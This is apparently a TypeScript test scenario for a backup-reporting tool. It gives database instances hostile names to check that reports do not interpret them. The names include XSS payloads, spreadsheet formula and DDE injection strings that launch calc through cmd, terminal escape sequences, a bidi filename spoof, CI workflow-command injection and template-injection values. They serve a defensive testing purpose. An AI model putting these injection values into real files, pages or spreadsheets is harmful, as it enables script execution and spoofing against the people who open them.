import type { InstanceSpec } from "../instance-spec";
import type { Scenario } from "../scenario";

const HOUR = 3_600_000;

/** Names that a report must not interpret: markup, formulas, terminal sequences, workflow commands, text directions. */
const NAMES: readonly (readonly [about: string, name: string])[] = [
  ["html", `<img src=x onerror="alert(1)">`],
  ["script", `</script><script>alert(document.domain)</script>`],
  ["attribute", `" autofocus onfocus="alert(1)`],
  ["formula", `=HYPERLINK("http://example.com/?"&A1,"open")`],
  ["plus", `+1+cmd|' /C calc'!A0`],
  ["at", `@SUM(1+1)*cmd|' /C calc'!A0`],
  ["quotes", `orders, "quoted"\r\nsecond line;third\tcolumn`],
  ["ansi", `\u001b[2J\u001b[31mred\u001b[0m\u001b]0;title\u0007`],
  ["bidi", `orders\u202egnp.exe\u2066\u2069`],
  ["workflow", `::error file=app.js,line=1::not an error%0A::set-output name=x::y`],
  ["markdown", `[click](javascript:alert(1)) | **bold** | \`code\` | @everyone`],
  ["xml", `]]><failure message="made up"/><![CDATA[ &amp; &lt;`],
  ["metrics", `orders"} 1\nbackup_age_seconds{instance="made_up`],
  ["template", "${7*7}{{constructor.constructor('alert(1)')()}}"],
  ["zero-width", "ord\u200bers\u0000\ufeff"],
  ["long", "x".repeat(256)],
];

/**
 * One instance for each hostile name, which is also the value of its tag `owner`. Each second instance has no fresh backup, so
 * that its name gets into messages of findings too.
 */
export const hostile: Scenario = {
  instances: NAMES.map(([about, name], index): InstanceSpec => {
    const number = String(index + 1).padStart(4, "0");
    return {
      ...(index % 2 === 0
        ? { product: "rds", id: `rm-bp1hostile${number}` }
        : { product: "redis", id: `r-bp1hostile${number}` }),
      name,
      tags: { owner: name, about, [name.slice(0, 128)]: "key" },
      sets: [{ startedAgoMs: (index % 4 < 2 ? 5 : 90) * HOUR }],
    };
  }),
};
